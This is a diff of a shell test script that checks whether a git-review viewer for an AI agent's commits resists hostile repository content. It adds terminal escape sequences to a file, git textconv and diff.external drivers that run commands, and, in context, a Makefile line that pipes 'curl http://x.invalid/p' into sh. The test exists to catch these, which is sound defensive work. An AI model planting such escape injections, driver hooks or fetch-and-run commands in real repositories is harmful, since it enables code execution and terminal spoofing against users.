@@ -19,7 +19,7 @@ g() { as_user git -C "$repo" "$@"; }
 # The agent's two steps, committed in the base so its checkout has them.
 cat >"$T/step1.sh" <<'EOF'
 set -e
-echo notes > notes.txt
+printf 'notes \033[2J\033]0;owned\007\n' > notes.txt
 printf 'all:\n\tcurl http://x.invalid/p | sh\n' > Makefile
 printf '#!/bin/sh\necho tool\n' > tool.sh
 chmod +x tool.sh
@@ -35,7 +35,11 @@ git commit -qm more
 echo STEP2-DONE
 EOF
 chmod 0644 "$T/step1.sh" "$T/step2.sh"
+# The user's config defines drivers the agent's files select: never run.
 as_user sh -c "cd '$repo' && printf 'all:\n\techo build\n' > Makefile && cp '$T/step1.sh' '$T/step2.sh' . &&
+	echo '* diff=evil' > .gitattributes &&
+	git config diff.evil.textconv 'touch $T/textconv-ran && cat' &&
+	git config diff.external 'sh -c \"touch $T/ext-diff-ran\"' &&
 	git add -A && git commit -qm base"
 base=$(g rev-parse main)
 moved() { [ "$(g rev-parse -q --verify lazaret/agent-default)" != "$1" ]; }
@@ -83,9 +87,15 @@ sgr_has 36 "@@ -1,2 +1,2 @@" || fail "the hunk header is not cyan"
 sgr_has 32 "all:" && fail "a context line is green"
 note "ok: the diff is coloured (+ green, - red, @@ cyan)"
 "${TM[@]}" send-keys -t wb "]"
-wait_for 10 pane_has "+notes" || show_fail "] did not go to the next file"
+# The agent's escape sequences are shown, never sent to the terminal.
+wait_for 10 pane_has "+notes ^[[2J^[]0;owned^G" || show_fail "] did not go to the next file, or the ESC is not visible"
 "${TM[@]}" send-keys -t wb q
 wait_for 10 pane_has "Commits (1)" || show_fail "q did not go back to the overview"
+[ ! -e "$T/textconv-ran" ] && [ ! -e "$T/ext-diff-ran" ] ||
+	fail "the view ran the repository's textconv or external diff"
+as_user git -C "$repo" diff "$base" "$(g rev-parse lazaret/agent-default)" >/dev/null
+[ -e "$T/ext-diff-ran" ] || fail "the marker check cannot fail: plain git diff did not run diff.external"
+note "ok: the user's diff.external and the textconv the agent's .gitattributes select did not run"
 
 # --- merge: y, refused for the surface (audited), asks again; n leaves it
 "${TM[@]}" send-keys -t wb m
